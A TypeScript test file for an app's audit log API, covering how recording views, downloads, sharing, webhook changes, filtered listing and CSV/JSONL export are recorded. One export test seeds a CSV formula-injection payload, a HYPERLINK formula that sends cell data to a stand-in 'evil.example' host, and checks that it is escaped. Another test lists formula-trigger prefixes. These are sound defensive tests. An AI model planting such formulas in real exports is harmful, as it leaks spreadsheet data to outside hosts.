import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { call, olderVersion, startTestApp } from "../../../test/support/app.ts";
import {
  makeRecording,
  makeTeam,
  makeUser,
  makeWorkspace,
  unknownId,
} from "../../../test/support/factories.ts";
import { startHookReceiver } from "../../../test/support/hook-receiver.ts";
import { until } from "../../../test/support/until.ts";
import { auditActions } from "../../platform/audit/actions.ts";
import { recordingObjectKey } from "../../platform/storage/layout.ts";
import { csvCell, csvColumns } from "./present.ts";
import { writeEntries } from "./test/audit.ts";

const app = await startTestApp({
  env: { PARLEY_HOOKS_ALLOW_ADDRESSES: "127.0.0.0/8", PARLEY_PAGE_SIZE: "4" },
});
const workspace = await makeWorkspace(app.db);
const { admin, member } = workspace;

interface Entry {
  readonly action: string;
  readonly user_id: string | null;
  readonly user_email: string | null;
  readonly credential: string | null;
  readonly subject_type: string | null;
  readonly subject_id: string | null;
  readonly ip: string | null;
  readonly user_agent: string | null;
  readonly details: object;
  readonly position: number | null;
  readonly id: string;
  readonly occurred_datetime: string;
}

const audit = (query: string, token: string = admin.token) =>
  call(app, "GET", `/_/api/v1/audit${query}`, undefined, { token, version: null });

/** What the log says of something, oldest first. */
async function entriesOf(subject: string): Promise<Entry[]> {
  const answer = await audit(`?subject=${subject}`);
  assert.equal(answer.status, 200, answer.text);
  return answer.body.entries.reverse();
}

const told = (entries: Entry[]) => entries.map(({ action, user_id }) => [action, user_id]);

async function makeMediaRecording(): Promise<string> {
  const { recordingId } = await makeRecording(app, member.token);
  await app.store.put(recordingObjectKey(recordingId, "media.mp4"), Buffer.from("a film"), {});
  await app.db.pool.query(
    "insert into recording_media (recording_id, format, has_storyboard) values ($1, 'mp4', false)",
    [recordingId],
  );
  return recordingId;
}

test("views: each token's first view in an hour is recorded, whatever the endpoint; refused requests are not", async () => {
  const { recordingId } = await makeRecording(app, member.token);
  const get = (token: string, path = "", method = "POST") =>
    call(app, method, `/recordings/${recordingId}${path}`, method === "POST" ? {} : undefined, { token });
  // At once: all wait for the one entry.
  await Promise.all(Array.from({ length: 8 }, () => get(member.token)));
  for (const form of ["", ".txt", ".vtt", ".srt"]) await get(member.token, `/transcript${form}`, "GET");
  assert.deepEqual(told(await entriesOf(recordingId)), [["recording_viewed", member.id]]);
  await get(workspace.token);
  const stranger = await makeUser(app.db, workspace);
  assert.equal((await get(stranger.token)).status, 404);
  const entries = await entriesOf(recordingId);
  assert.deepEqual(
    entries.map(({ user_id, credential }) => [user_id, credential]),
    [
      [member.id, "personal_access_token"],
      [admin.id, "workspace_access_token"],
    ],
  );
  const [first] = entries;
  assert.equal(first?.user_email, member.email);
  assert.match(first?.ip ?? "", /127\.0\.0\.1/);
});

test("views: another process, or one with an evicted cache, finds this hour's entry in the log", async () => {
  const { recordingId } = await makeRecording(app, member.token);
  await call(app, "POST", `/recordings/${recordingId}`, {}, { token: member.token });
  const { createViewLog } = await import("../../recordings/recordings/view-log.ts");
  const other = createViewLog(app.db);
  const { rows } = await app.db.pool.query(
    "select user_id, credential_id from audit_log where subject_id = $1",
    [recordingId],
  );
  const request = {
    ip: "127.0.0.1",
    headers: {},
    principal: {
      tokenId: rows[0].credential_id,
      tokenType: "personal_access_token" as const,
      workspaceId: workspace.id,
      userId: member.id,
      emailKey: member.email,
    },
  };
  await other.note(request, "recording_viewed", recordingId);
  assert.equal((await entriesOf(recordingId)).length, 1);
  await other.note(request, "recording_downloaded", recordingId);
  assert.equal((await entriesOf(recordingId)).length, 2);
});

test("views: an entry of an earlier hour does not count for this one", async () => {
  const { recordingId } = await makeRecording(app, member.token);
  const now = new Date();
  await app.db.pool.query(
    `insert into audit_log (workspace_id, user_id, credential, credential_id, action, subject_type, subject_id, occurred_at)
     select $1, $2, 'personal_access_token', id, 'recording_viewed', 'recording', $3, $4::timestamptz
     from access_tokens where user_id = $2`,
    [workspace.id, member.id, recordingId, new Date(now.getTime() - (now.getTime() % 3_600_000) - 1)],
  );
  await call(app, "POST", `/recordings/${recordingId}`, {}, { token: member.token });
  assert.equal((await entriesOf(recordingId)).length, 2);
});

test("downloads: records who requested the link, and once that it was followed, whatever the ranges", async () => {
  const recordingId = await makeMediaRecording();
  const answer = await call(app, "GET", `/recordings/${recordingId}/download`, undefined, {
    token: member.token,
  });
  const link = (answer.headers.get("location") ?? "").replace("http://parley.test", app.url);
  assert.deepEqual(told(await entriesOf(recordingId)), [["recording_downloaded", member.id]]);
  for (const range of ["bytes=0-1", "bytes=2-3", "bytes=0-"])
    assert.equal((await fetch(link, { headers: { range } })).status, 206);
  assert.equal((await fetch(link, { method: "HEAD" })).status, 200);
  const entries = await entriesOf(recordingId);
  assert.deepEqual(told(entries), [
    ["recording_downloaded", member.id],
    ["recording_viewed", null],
  ]);
  assert.equal(entries[1]?.credential, "link");
  const { recordingId: transcript } = await makeRecording(app, member.token);
  await call(app, "GET", `/recordings/${transcript}/download`, undefined, { token: member.token });
  assert.deepEqual(await entriesOf(transcript), []);
});

test("sharing and deleting: recorded once with ids, and not when nothing changed or it was refused", async () => {
  const { recordingId } = await makeRecording(app, member.token, { title: "Secret plans of Q3" });
  const other = await makeUser(app.db, workspace);
  const team = await makeTeam(app.db, workspace);
  const path = `/recordings/${recordingId}`;
  const as = (token: string) => async (method: string, below: string, body?: object) =>
    (await call(app, method, `${path}${below}`, body, { token })).status;
  const [own, foreign] = [as(member.token), as(other.token)];
  for (const _twice of [1, 2]) {
    assert.equal(await own("PUT", "/users", { user_id: other.id.toUpperCase() }), 200);
    assert.equal(await own("PUT", "/teams", { team_id: team.id }), 200);
  }
  assert.equal(await foreign("PUT", "/users", { user_id: admin.id }), 403);
  for (const _twice of [1, 2]) {
    assert.equal(await own("DELETE", `/users/${other.id}`), 200);
    assert.equal(await own("DELETE", `/teams/${team.id}`), 200);
  }
  assert.equal(
    (await call(app, "DELETE", `/_/api/v1/recordings/${recordingId}`, undefined, { token: member.token }))
      .status,
    200,
  );
  const { rows } = await app.db.pool.query(
    "select action, user_id, subject_type, details, user_agent from audit_log where subject_id = $1 order by id",
    [recordingId],
  );
  assert.deepEqual(
    rows.map((row) => [row.action, row.user_id, row.subject_type, row.details]),
    [
      ["recording_shared", member.id, "recording", { user_id: other.id }],
      ["recording_shared", member.id, "recording", { team_id: team.id }],
      ["recording_unshared", member.id, "recording", { user_id: other.id }],
      ["recording_unshared", member.id, "recording", { team_id: team.id }],
      ["recording_deleted", member.id, "recording", {}],
    ],
  );
  assert.ok(!JSON.stringify(rows).includes("Secret plans"));
});

test("hooks: creation, deletion and secret rotation are recorded without URL or secret", async () => {
  const receiver = await startHookReceiver();
  const created = await call(
    app,
    "POST",
    "/hooks/create",
    { hook_url: `${receiver.url}/very-secret-path?key=1`, hook_type: "recording_added" },
    { token: member.token, version: olderVersion },
  );
  const { id } = created.body;
  const rotated = await call(
    app,
    "POST",
    `/_/api/v1/hooks/${id}/rotate-secret`,
    { overlap_sec: 60 },
    { token: member.token },
  );
  assert.equal(rotated.status, 200, rotated.text);
  await call(app, "DELETE", `/hooks/${id}`, undefined, { token: member.token });
  const entries = await entriesOf(id);
  assert.deepEqual(
    entries.map(({ action, details }) => [action, details]),
    [
      ["hook_created", { hook_type: "recording_added", host: new URL(receiver.url).host }],
      ["hook_secret_rotated", { overlap_sec: 60 }],
      ["hook_deleted", {}],
    ],
  );
  assert.ok(!JSON.stringify(entries).includes("whsec_"));
});

test("list: pages newest first, with every filter, per workspace", async () => {
  const own = await makeWorkspace(app.db);
  const read = (query: string) => audit(query, own.admin.token);
  await writeEntries(app.db, own.id, 9, { action: "signed_in" }, { userId: own.member.id });
  await writeEntries(app.db, own.id, 1, { action: "signed_out", subject: { type: "x", id: "some" } });
  const seen: Entry[] = [];
  for (let cursor: string | null = ""; cursor !== null; ) {
    const page = await read(cursor === "" ? "" : `?cursor=${cursor}`);
    assert.equal(page.status, 200, page.text);
    assert.ok(page.body.entries.length <= 4);
    seen.push(...page.body.entries);
    cursor = page.body.cursor;
  }
  assert.equal(seen.length, 10);
  assert.deepEqual(
    seen.map(({ id }) => Number(id)),
    seen.map(({ id }) => Number(id)).toSorted((a, b) => b - a),
  );
  const count = async (query: string) => (await read(query)).body.entries.length;
  assert.equal(await count("?action=signed_out"), 1);
  assert.equal(await count("?subject=some"), 1);
  assert.equal(await count(`?user=${own.member.id.toUpperCase()}&action=signed_out`), 0);
  const [newest] = seen;
  assert.equal(await count(`?from=${newest?.occurred_datetime}&action=signed_out`), 1);
  assert.equal(await count(`?to=${newest?.occurred_datetime}&action=signed_out`), 0);
  assert.equal(await count("?to=2020-01-01"), 0);
  for (const [query, error] of [
    ["?action=made_up", "invalid_input"],
    ["?user=me", "invalid_input"],
    ["?from=yesterday", "invalid_input"],
    ["?cursor=abc", "invalid_cursor"],
  ] as const) {
    const refused = await read(query);
    assert.deepEqual([refused.status, refused.body.error], [400, error], query);
  }
});

test("list: shows a recording's current title only to an admin who sees it", async () => {
  const { recordingId } = await makeRecording(app, member.token, { title: "Secret plans of Q4" });
  const other = await makeUser(app.db, workspace);
  const own = { token: member.token };
  const share = (user: { readonly id: string }) =>
    call(app, "PUT", `/recordings/${recordingId}/users`, { user_id: user.id }, own);
  const read = async () => {
    const answer = await audit(`?subject=${recordingId}&action=recording_shared`);
    return { text: answer.text, title: answer.body.entries[0].recording_title };
  };
  await share(other);
  const hidden = await read();
  assert.equal(hidden.title, null);
  assert.ok(!hidden.text.includes("Secret plans"));
  await share(admin);
  await call(app, "PATCH", `/recordings/${recordingId}`, { title: "Plans of Q4" }, own);
  assert.equal((await read()).title, "Plans of Q4");
  await call(app, "DELETE", `/_/api/v1/recordings/${recordingId}`, undefined, { ...own, version: null });
  assert.equal((await read()).title, null);
});

test("list and export: only for admins, signed in or with a personal token", async () => {
  for (const path of ["", "/export"]) {
    for (const token of [member.token, workspace.token])
      assert.equal((await audit(path, token)).status, 403, path);
    const unknown = await call(app, "GET", `/_/api/v1/audit${path}`, undefined, { token: null });
    assert.equal(unknown.status, 401);
  }
});

/** A small reader of RFC 4180, so that the test does not trust what wrote it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === "" && end === "") break;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

test("export: the whole log in chain order as safe CSV and as JSON lines, recorded as an entry", async () => {
  const own = await makeWorkspace(app.db);
  const evil = '=HYPERLINK("https://evil.example/?"&A1,"x")';
  await writeEntries(app.db, own.id, 2300, { action: "signed_in" });
  await writeEntries(app.db, own.id, 1, { action: "signed_out" }, { userEmail: evil });
  await until("the log is sealed", async () => {
    const { rows } = await app.db.pool.query(
      "select 1 from audit_log where workspace_id = $1 and position is null limit 1",
      [own.id],
    );
    return rows.length === 0;
  });
  const csv = await audit("/export", own.admin.token);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get("content-type") ?? "", /^text\/csv/);
  assert.match(csv.headers.get("content-disposition") ?? "", /attachment; filename="audit.csv"/);
  const [head, ...rows] = readCsv(csv.text);
  assert.deepEqual(head, [...csvColumns]);
  assert.deepEqual(
    rows.map(([position]) => Number(position)),
    Array.from({ length: 2301 }, (_, index) => index + 1),
  );
  assert.equal(rows.at(-1)?.[csvColumns.indexOf("user_email")], `'${evil}`);
  const filtered = await audit("/export?format=jsonl&action=signed_out", own.admin.token);
  assert.match(filtered.headers.get("content-type") ?? "", /^application\/x-ndjson/);
  const [line, ...more] = filtered.text.trimEnd().split("\n");
  assert.deepEqual(more, []);
  assert.equal(JSON.parse(line ?? "").user_email, evil);
  const exports = (await audit("?action=audit_log_exported", own.admin.token)).body.entries;
  assert.deepEqual(
    exports.map(({ details, user_id }: Entry) => [details, user_id]),
    [
      [{ format: "jsonl", action: "signed_out" }, own.admin.id],
      [{ format: "csv" }, own.admin.id],
    ],
  );
});

test("export: cells that a spreadsheet would evaluate start with an apostrophe", () => {
  for (const text of ["=1+1", "+1", "-1", "@A1", "\t=1", " =1", "\r=1", "\u0000=1", "＝1", "\n"])
    assert.match(csvCell(text), /^"?'/, JSON.stringify(text));
  for (const text of ["a=1", "x@y.example", "", "12", "{}", "a-b"]) assert.equal(csvCell(text), text);
  assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
});

test("guide: describes when every action is recorded", () => {
  const guide = readFileSync(new URL("../../../docs/guide/audit.md", import.meta.url), "utf8");
  for (const action of auditActions) assert.ok(guide.includes(`\`${action}\``), action);
});

test("list: an unknown subject returns no entries", async () => {
  assert.deepEqual(await entriesOf(unknownId()), []);
});
